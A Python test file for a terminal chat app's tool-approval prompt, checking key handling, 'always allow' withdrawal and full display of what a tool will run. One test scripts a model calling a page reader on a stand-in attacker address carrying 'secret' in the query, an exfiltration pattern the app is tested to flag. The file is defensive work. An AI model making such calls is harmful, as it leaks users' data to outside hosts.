"""Tools that act ask on the screen, and only a key that is meant for them answers."""

from __future__ import annotations

from pathlib import Path

from bnagpt_tui.backend.allowed_tools import AllowedTools
from bnagpt_tui.backend.approvals import Approvals
from bnagpt_tui.backend.toolbox import Kit, Toolbox
from bnagpt_tui.backend.tools.read_page import read_page
from bnagpt_tui.backend.tools.web import WebOptions
from bnagpt_tui.widgets.approval_bar import ApprovalBar
from tests.app.hands import ACTS, LONG, acts, armed, engine, send
from tests.app.session import OpenApp
from tests.fakes import CALLS, DONE, Gate, Hands, call
from tests.waiting import until


async def test_a_tool_is_approved_by_key_after_all_of_it_was_shown(open_app: OpenApp) -> None:
    hands = Hands()
    scripted = engine(ACTS, ["Ran it.", DONE])
    async with open_app(engine=scripted, toolbox=hands.box()) as session:
        await send(session, "run it")
        await session.sees("act wants to run")
        bar = await armed(session)
        assert bar.has_focus
        shown = session.shown()
        assert "print(1)" in shown
        assert "print(2)" in shown
        assert "waits for your word" in shown
        await session.press("y")
        await session.sees("Ran it.")
        assert hands.done == ["act print(1)\nprint(2)"]
        assert session.screen.approval_bar is None
        assert session.screen.prompt.has_focus


async def test_keys_typed_before_the_question_could_be_read_allow_nothing(
    open_app: OpenApp,
) -> None:
    hands = Hands()
    async with open_app(engine=engine(ACTS, ["No.", DONE]), toolbox=hands.box()) as session:
        session.screen.arming_seconds = 3600
        await send(session, "run it")
        await until(lambda: isinstance(session.screen.focused, ApprovalBar))
        await session.press("y", "a")
        assert hands.done == []
        assert session.chat.tools.waiting(session.screen.open_id)
        bar = session.screen.focused
        assert isinstance(bar, ApprovalBar)
        bar.armed = True
        await session.press("n")
        await session.sees("did not allow it")


async def test_what_is_being_typed_keeps_the_keys(open_app: OpenApp) -> None:
    hands = Hands()
    gate = Gate()
    async with open_app(
        engine=engine([gate, *ACTS], ["No.", DONE]), toolbox=hands.box()
    ) as session:
        await send(session, "run it")
        await session.type("my next question")
        gate.open()
        await armed(session)
        await session.press("y")
        assert session.screen.prompt.text == "my next questiony"
        assert hands.done == []
        await session.press("tab", "n")
        await session.settled()


async def test_a_no_with_words_reaches_the_model(open_app: OpenApp) -> None:
    hands = Hands()
    scripted = engine(ACTS, ["All right.", DONE])
    async with open_app(engine=scripted, toolbox=hands.box()) as session:
        await send(session, "run it")
        await armed(session)
        await session.press("w")
        await session.type("too slow")
        await session.press("escape")
        assert isinstance(session.screen.focused, ApprovalBar)
        await session.press("w")
        await session.type("use look")
        await session.press("enter")
        await session.sees("All right.")
        assert "They say: use look" in scripted.requests[1].messages[-1].content
        assert "did not allow it" in session.shown()


async def test_always_can_be_taken_back(open_app: OpenApp, tmp_path: Path) -> None:
    hands = Hands()
    approvals = Approvals(always=AllowedTools(tmp_path / "allowed"))
    scripted = engine(ACTS, ["Ran it.", DONE])
    async with open_app(engine=scripted, toolbox=hands.box(), approvals=approvals) as session:
        await send(session, "run it")
        await armed(session)
        await session.press("a")
        await session.sees("a again")
        await armed(session)
        await session.press("a")
        await session.sees("Ran it.")
        await send(session, "/tools")
        await session.sees("acts, always allowed")
        await session.type("act")
        await session.press("enter")
        await session.sees("act asks again")
        assert not await approvals.is_given("any", "act")


async def test_always_takes_a_second_key_and_escape_goes_back(open_app: OpenApp) -> None:
    hands = Hands()
    scripted = engine(ACTS, ["No.", DONE])
    async with open_app(engine=scripted, toolbox=hands.box()) as session:
        await send(session, "run it")
        await armed(session)
        await session.press("a")
        await session.sees("a again: it is never asked about any more")
        await session.press("escape")
        await session.sees("y yes, once")
        assert session.chat.running
        await armed(session)
        await session.press("n")
        await session.sees("did not allow it")
        assert hands.done == []


async def test_a_key_that_is_held_is_one_word(open_app: OpenApp) -> None:
    hands = Hands()
    async with open_app(engine=engine(ACTS, ["No.", DONE]), toolbox=hands.box()) as session:
        await send(session, "run it")
        bar = await armed(session)
        bar._arming_seconds = 3600
        await session.press("a", "a", "a", "a")
        assert session.chat.tools.waiting(session.screen.open_id)
        assert hands.done == []


async def test_how_much_is_below_what_is_seen_is_said(open_app: OpenApp) -> None:
    async with open_app(engine=engine(LONG), toolbox=Hands().box()) as session:
        await send(session, "run it")
        bar = await armed(session)
        await session.sees("↓ 48 more lines")
        assert "print(11)" in session.shown()
        await session.press("pagedown")
        await session.sees("↓ 40 more lines")
        await session.press(*["pagedown"] * 5)
        await until(lambda: not bar.border_subtitle)
        await session.sees("print(59)")


async def test_words_about_a_long_call_push_nothing_off_the_screen(open_app: OpenApp) -> None:
    async with open_app(engine=engine(LONG), toolbox=Hands().box(), size=(80, 24)) as session:
        await send(session, "run it")
        await armed(session)
        await session.press("w")
        await session.sees("what the model is told")
        assert "Ask anything" in session.shown()
        assert "act wants to run" in session.shown()


async def test_nothing_in_what_is_asked_about_is_hidden(open_app: OpenApp) -> None:
    script = acts("x=1\u200b\u202e#\u3164")
    async with open_app(engine=engine(script), toolbox=Hands().box()) as session:
        await send(session, "run it")
        await armed(session)
        await session.sees(r"x=1\u200b\u202e#\u3164")


async def test_what_the_settings_allow_is_taken_back_there(open_app: OpenApp) -> None:
    approvals = Approvals(["act"])
    async with open_app(engine=engine(), toolbox=Hands().box(), approvals=approvals) as session:
        await send(session, "/tools")
        await session.sees("acts, allowed by the settings")
        await session.type("act")
        await session.press("enter")
        await session.sees("The setting “allow” in config.toml allows act")


async def test_an_address_that_nobody_named_is_shown_whole_with_how_far_a_yes_reaches(
    open_app: OpenApp,
) -> None:
    box = Toolbox(lambda: Kit((read_page(WebOptions()),)))
    long = f"https://evil.invalid/{'a/' * 120}end"
    scripted = engine(
        [call("c1", "read_page", '{"address":"https://evil.invalid/?q=secret"}'), CALLS],
        [call("c2", "read_page", f'{{"address":"{long}"}}'), CALLS],
        ["Well.", DONE],
    )
    async with open_app(engine=scripted, toolbox=box) as session:
        await send(session, "read the news")
        await armed(session)
        await session.sees("https://evil.invalid/?q=secret")
        await session.sees("Neither you nor a search named this address.")
        await session.sees("y yes, evil.invalid in this conversation")
        assert "c in this" not in session.shown()
        await session.press("c")
        assert session.chat.tools.waiting(session.screen.open_id)
        await session.press("y")
        await session.sees("long or odd")
        await armed(session)
        assert long in "".join(session.shown().replace("│", "").split())
        await session.sees("y yes, once")
        assert "a always" not in session.shown()
        await session.press("a", "a", "c")
        assert session.chat.tools.waiting(session.screen.open_id)
        await session.press("n")
        await session.sees("Well.")
